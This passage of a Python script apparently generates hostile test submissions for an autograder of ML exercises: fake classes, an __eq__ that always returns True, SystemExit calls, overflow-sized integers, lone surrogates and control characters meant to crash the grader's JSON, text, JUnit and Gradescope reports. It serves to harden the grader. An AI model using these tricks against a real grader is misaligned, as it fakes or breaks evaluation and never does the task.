       append={"submission/exercise6_multihead.py": ("solutions/exercise6_multihead.py", r'''
_Base = MultiHeadAttention
class MultiHeadAttention(_Base):
    def state_dict(self, *a, **k):
        return list(super().state_dict(*a, **k).values())
''')})
attack("g2_class_is_function_returning_number", "g",
       "MultiHeadAttention is a function that returns the number 7.",
       mode="single", cmd=["exercise6", "--format", "json", "--no-perf"], check="grader_error",
       append={"submission/exercise6_multihead.py": ("solutions/exercise6_multihead.py", r'''
def MultiHeadAttention(*args, **kwargs):
    return 7
''')})
attack("g3_int_too_large_for_float", "g",
       "kv_cache_bytes returns 2**1100: float() of it raises OverflowError, which the suite does not expect.",
       mode="single", cmd=["exercise8", "--format", "json", "--no-perf"], check="grader_error",
       append={"submission/exercise8_kv_cache.py": ("solutions/exercise8_kv_cache.py", r'''
def kv_cache_bytes(*args, **kwargs):
    return 2 ** 1100
''')})
SURROGATE = payload(r'''
    def _bad(*a, **k):
        raise ValueError("bad \ud800 value")
    attention_scores = scale_scores = scaled_scores = _bad
''')
attack("g4_lone_surrogate_json_report", "g",
       "An exception message with a lone surrogate ('\\ud800'): the judge cannot encode its own JSON report.",
       mode="single", cmd=["exercise3", "--format", "json", "--no-perf"], check="judge_crash",
       files={"submission/exercise3_scaling.py": SURROGATE})
attack("g5_lone_surrogate_gradescope", "g",
       "The same surrogate on Gradescope: the student gets 'the autograder itself failed' instead of failed tests.",
       mode="gradescope", check="gradescope_grader_failure",
       files={"submission/exercise3_scaling.py": SURROGATE})
attack("g6_surrogate_text_stdout", "g",
       "A lone surrogate in an exception message, with the text report printed on stdout (the default use).",
       mode="single", cmd=["exercise3", "--no-perf"], check="judge_crash", text_report=True,
       files={"submission/exercise3_scaling.py": payload(r'''
           def _bad(*a, **k):
               raise ValueError("oops \udcff")
           attention_scores = scale_scores = scaled_scores = _bad
       ''')})
attack("g7_control_chars_junit", "g",
       "Exception messages and printed output full of control characters, NULs, U+FFFE/U+FFFF and bidi "
       "overrides, JUnit report: is the XML still well-formed?",
       mode="single", cmd=["exercise3", "--format", "junit", "--no-perf"], check="junit_wellformed",
       files={"submission/exercise3_scaling.py": payload(r'''
           os.write(1, b"\x1b[2J\x00\x07\xef\xbf\xbe\xef\xbf\xbf\xe2\x80\xae evil \xed\xa0\x80\n")
           def _bad(*a, **k):
               raise ValueError("\x00\x1b[31m\ufffe\uffff\u202e passed \x0c")
           attention_scores = scale_scores = scaled_scores = _bad
       ''')})
attack("g8_hostile_len_and_eq", "g",
       "A KVCache whose __len__ returns 10**400 and whose __eq__/__float__/__index__ lie or raise.",
       mode="single", cmd=["exercise8", "--format", "json", "--no-perf"], check="grader_error",
       append={"submission/exercise8_kv_cache.py": ("solutions/exercise8_kv_cache.py", r'''
_KV = KVCache
class KVCache(_KV):
    def __len__(self):
        return 10 ** 400
    def __eq__(self, other):
        return True
    def __float__(self):
        raise SystemExit(0)
    __hash__ = object.__hash__
''')})

def main():
    if os.path.isdir(OUT):
        shutil.rmtree(OUT)
    for name, spec in ATTACKS.items():
        folder = os.path.join(OUT, name)
        os.makedirs(folder)
        files = spec.pop("files")
        for rel, text in files.items():
            path = os.path.join(folder, rel)
            os.makedirs(os.path.dirname(path), exist_ok=True)
            with open(path, "w", encoding="utf-8", errors="surrogatepass") as f:
                f.write(text)
        with open(os.path.join(folder, "attack.json"), "w") as f:
            json.dump(spec, f, indent=2)
    print(f"wrote {len(ATTACKS)} attacks into {OUT}")

if __name__ == "__main__":
    main()
